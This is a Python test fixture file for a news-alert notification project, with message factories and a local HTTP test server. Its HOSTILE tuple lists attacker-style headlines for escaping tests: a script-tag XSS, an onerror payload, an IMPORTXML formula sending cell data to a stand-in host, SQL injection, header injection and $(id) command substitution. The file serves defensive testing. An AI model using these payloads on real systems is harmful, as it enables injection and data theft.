import asyncio
import contextlib
import json
from collections.abc import AsyncIterator, Callable, Mapping
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from typing import Any

import pytest

from watcher.fetch.sending import Way
from watcher.model.alert import Message, OtherSource, Passage
from watcher.model.sending import Answered, Unanswered
from watcher.model.settings import Network
from watcher.model.thread import Standing
from watcher.model.watch import Priority

NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
HOSTILE = (
    "Talks <!channel> today",
    "<!here|all>",
    "<@U0AB12CD3> read this",
    "<https://bad.example/x|https://good.example>",
    "[Good](https://bad.example)",
    "</a><script>fetch('//bad')</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;b&gt;already escaped&lt;/b&gt;",
    "*bold* _under_ ~gone~ `code`",
    "one\r\nBcc: x@bad.example",
    "line\u2028separator\u0085next",
    "\x1b[31mred\x07 \x00nul",
    "\u202egnp.exe and zero\u200bwidth\ufeff",
    "lone \ud83d surrogate",
    ":rotating_light: @everyone #general",
    "{{ 7*7 }} ${x} %s {0}",
    "<https://bad.example|https://good.example> ||hidden|| ~~gone~~",
    "# heading\n> quote\n- item\n![x](https://bad.example/pixel)",
    "=IMPORTXML(CONCAT('https://bad.example/', A1))",
    "'); DROP TABLE alert; --",
    "../../../secret %n%s%x $(id) `id`",
    "<t:0:R> <:party:1234> </say:5678> <#91011>",
    "e" + "\u0301" * 500,
    "w" * 5000,
    "",
    " \u200b\u2066 ",
)
"""Headlines as an attacker would write them, for every channel."""


class _Once(Way):
    """Holds no connection between two requests, since each test has a loop of its own."""

    async def post(
        self, url: str, headers: Mapping[str, str], body: Mapping[str, object]
    ) -> Answered | Unanswered:
        try:
            return await super().post(url, headers, body)
        finally:
            await self.close()


HERE = _Once(Network(allow=("127.0.0.0/8",)))
"""The way to servers on this machine, for those tests that are about something else."""

MakeMessage = Callable[..., Message]
STANDING = Standing(
    as_of=NOW,
    watches=("Ilyin abroad",),
    priority=Priority.NORMAL,
)


@pytest.fixture
def make_message() -> MakeMessage:
    def make(headline: str = "Minister lands in Northport", **changes: object) -> Message:
        text = "Officials said Ilyin met his hosts on Monday."
        message = Message(
            alert_id="alert1",
            delivery_id="delivery1",
            watch="ilyin",
            watch_title="Ilyin abroad",
            priority=Priority.NORMAL,
            headline=headline,
            headline_hits=(),
            url="https://news.example/a/1?x=1&y=2",
            source="Harbour Gazette",
            published_at=NOW,
            first_seen=NOW,
            created_at=NOW,
            passages=(Passage(text=text, hits=((15, 20),)),),
            why=("Ilyin — actor ilyin",),
            other_sources=(
                OtherSource(
                    source="Daily Coast",
                    url="https://coast.example/2",
                    title="Other",
                    first_seen=NOW,
                    is_copy=True,
                ),
            ),
            timezone="Europe/Brussels",
            story_id="story1",
        )
        return replace(message, **changes)  # type: ignore[arg-type]

    return make


@dataclass
class HttpServer:
    """Answers every request with the next of `script`, the last one for ever."""

    script: list[tuple[int, dict[str, str], str] | str]
    url: str = ""
    requests: list[tuple[str, dict[str, Any]]] = field(default_factory=list)
    headers: list[str] = field(default_factory=list)
    tasks: list[asyncio.Task[Any]] = field(default_factory=list)

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self.tasks.append(task)
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            try:
                await self.answer(reader, writer)
            finally:
                writer.close()
                await writer.wait_closed()

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        length = next(
            (
                int(line.split(":")[1])
                for line in head.splitlines()
                if line.lower().startswith("content-length")
            ),
            0,
        )
        body = await reader.readexactly(length)
        self.requests.append((head.split()[1], json.loads(body)))
        self.headers.append(head)
        step = self.script.pop(0) if len(self.script) > 1 else self.script[0]
        if step == "hang":
            await asyncio.sleep(30)
        elif step == "cut":
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\no")
            await writer.drain()
        elif isinstance(step, tuple):
            status, headers, text = step
            lines = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
            writer.write(
                f"HTTP/1.1 {status} Said\r\nConnection: close\r\n{lines}"
                f"Content-Length: {len(text.encode())}\r\n\r\n{text}".encode()
            )
            await writer.drain()


MakeServer = Callable[..., Any]


@pytest.fixture
async def http_server() -> AsyncIterator[MakeServer]:
    servers: list[tuple[asyncio.Server, HttpServer]] = []

    async def start(*script: tuple[int, dict[str, str], str] | str) -> HttpServer:
        state = HttpServer(script=list(script))
        server = await asyncio.start_server(state.serve, "127.0.0.1", 0)
        servers.append((server, state))
        state.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        return state

    yield start
    for server, state in servers:
        server.close()
        for task in state.tasks:
            task.cancel()
        await asyncio.gather(*state.tasks, return_exceptions=True)


@pytest.fixture
async def closed_port() -> int:
    async def ignore(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.close()

    server = await asyncio.start_server(ignore, "127.0.0.1", 0)
    port: int = server.sockets[0].getsockname()[1]
    server.close()
    await server.wait_closed()
    return port
